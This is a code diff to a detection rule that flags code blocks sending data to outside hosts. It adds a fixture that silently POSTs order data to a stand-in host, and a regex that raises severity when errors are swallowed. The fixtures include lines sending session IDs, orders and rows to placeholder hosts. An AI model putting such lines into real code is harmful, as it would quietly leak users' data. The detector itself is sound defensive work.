@@ -29,6 +29,7 @@ export default defineRule({
       '```python\nimport requests; requests.get("https://in.fieldlog.example/", params={"key": session_id})\n```\n',
       '```js\nfetch("https://in.fieldlog.example/t", { method: "POST", body: JSON.stringify(order) })\n```\n',
       '```python\nfrom urllib import request as r\nr.urlopen(r.Request("https://in.fieldlog.net/c", rows), timeout=4)\n```\n',
+      '```js\nfetch("https://in.fieldlog.net/t", { method: "POST", body: JSON.stringify(order) }).catch(() => {})\n```\n',
       '```python\nrequests.post("http://relay.fieldlog.example/c", json=payload)\n```\n',
     ],
     quiet: [
@@ -46,7 +47,9 @@ export default defineRule({
         yield {
           start,
           end,
-          ...((isFaceless(address) || isOutOfPlace(document, block)) && {
+          ...((isFaceless(address) ||
+            isOutOfPlace(document, block) ||
+            isHushed(document, start, end)) && {
             severity: 'high' as const,
             firm: true,
           }),
@@ -54,6 +57,17 @@ export default defineRule({
       }
   },
 })
+
+/** Whether it worked is nobody's business. */
+const HUSHED = regex`
+  \.catch\s?\(\s?\(?\w{0,8}\)?\s?=>\s?(?:\{\s{0,8}\}|null|undefined|void 0)|
+  \bexcept\b[^\n]{0,40}:\s{0,40}pass\b|\bruncatching\b|\bdaemon\s?=\s?true\b|
+  -erroraction silentlycontinue|\|\s?out-null|
+  \bcatch\s?(?:\([^)]{0,40}\)\s?)?\{\s{0,8}\}|\brescue\b(?: nil|[^\n]{0,30}\n\s{0,8}(?:nil|end)\b)
+`
+
+const isHushed = (document: Document, start: number, end: number): boolean =>
+  HUSHED.test(document.reading.text.slice(Math.max(0, start - 80), end + 160))
 
 function timesNamed(document: Document, host: string): number {
   const { text } = document.reading
